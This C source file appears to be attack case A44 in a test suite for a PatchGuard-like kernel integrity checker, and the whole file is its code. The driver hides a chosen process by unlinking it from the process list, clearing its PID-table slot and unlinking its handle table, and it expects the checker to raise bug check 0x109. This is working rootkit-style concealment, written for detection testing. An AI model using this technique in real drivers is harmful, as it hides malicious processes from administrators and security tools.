/* attack_a44_hide_process (A44): hide a running process from every list.
 * Unlinks the process with the PID given as argument from the active
 * process list (found from the current thread, as attack_a8), clears its
 * PID-table slot (found by a scan of kernel data for the 16-byte entry
 * naming it) and unlinks its handle table from the handle-table list, so
 * the three views PatchGuard cross-walks agree again; its threads keep
 * running. Expected: 0x109 type 0x4 (the scheduler's threads name a
 * process no list has). */
#include "attack_proc.h"
#include <kpp/process.h>

status_t driver_entry(struct driver_object *drv)
{
	uint64_t pid = 1;
	if (drv->args[0] && !parse_u64(drv->args, &pid))
		return KPP_STATUS_INVALID_PARAMETER;
	struct thread *t = gs_current_thread();
	struct list_link *start = &t->process->link, *l = start;
	struct process *victim = NULL;
	int n = 0;
	do {
		if (is_process(l) && PROCESS_OF(l)->pid == pid)
			victim = PROCESS_OF(l);
		l = l->next;
	} while (l != start && !victim && ++n < 4096);
	struct pid_entry *slot = NULL;
	uint64_t base = a_kernel_base(), end = a_kernel_end(base);
	for (uint64_t p = base; victim && p < end && !slot; p += A_PAGE) {
		if (a_page_class(p) != A_DATA)
			continue;
		for (struct pid_entry *e = (struct pid_entry *)p; (uint64_t)(e + 1) <= p + A_PAGE; e++)
			if (e->process == victim && e->pid == pid) {
				slot = e;
				break;
			}
	}
	if (!victim || !slot) {
		printk("attack_a44: process %lu or its PID-table slot not found\n", pid);
		return KPP_STATUS_UNSUCCESSFUL;
	}
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	unlink(&victim->link);
	slot->process = NULL;
	slot->pid = 0;
	if (victim->handles)
		unlink(&victim->handles->link);
	printk("attack_a44: process %lu hidden from the process list, the PID table and the handle-table list\n", pid);
	a_patched("attack_a44");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
